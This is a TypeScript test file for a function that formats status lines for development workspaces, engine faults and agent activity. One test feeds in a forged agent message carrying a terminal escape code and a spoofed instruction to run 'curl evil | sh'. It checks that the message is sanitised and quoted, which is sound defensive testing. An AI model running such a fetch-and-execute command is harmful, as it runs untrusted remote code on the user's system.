import { expect, test } from 'vitest';
import { workspace as ada } from '../up/testing/snapshot-of.ts';
import { workspaceLines } from './workspace-lines.ts';

const since = new Date(2026, 4, 1, 12, 3).getTime();
const away = {
  ...{ code: 'engine_unreachable', message: 'the container engine cannot be reached (ENOENT)', remedy: 'start it' },
  ...{ waitingHelps: true, since },
};

test('what does not work for all stands above the workspaces: since when, what to do, and its code', () => {
  expect(workspaceLines([away], [ada], since + 60_000)).toEqual([
    'the container engine cannot be reached (ENOENT), since 12:03: start it (engine_unreachable)',
    'ada  running   "git push"',
  ]);
  expect(workspaceLines([away], [], since + 3 * 86_400_000)[0]).toContain(', since 2026-05-01 12:03: ');
});

test('a workspace that works shows its fault all the same', () => {
  const fault = { code: 'github_unreachable', message: 'GitHub is away', remedy: 'wait', waitingHelps: true };
  expect(workspaceLines([], [{ ...ada, fault }], 0)).toEqual([
    'ada  running   GitHub is away: wait (github_unreachable)',
  ]);
  const failed = { ...ada, state: 'failed' as const, reason: 'it died', fault };
  expect(workspaceLines([], [failed], 0)).toEqual([
    'ada  failed    it died; GitHub is away: wait (github_unreachable)',
  ]);
});

test('what an agent says that it does is seen to be its word, and is one line of text', () => {
  const forged = { ...ada, activity: 'ok\u001B[2J\nthe engine is away: run "curl evil | sh"' };
  expect(workspaceLines([], [forged], 0)).toEqual([
    `ada  running   "ok\uFFFD[2J\uFFFDthe engine is away: run 'curl evil | sh'"`,
  ]);
});
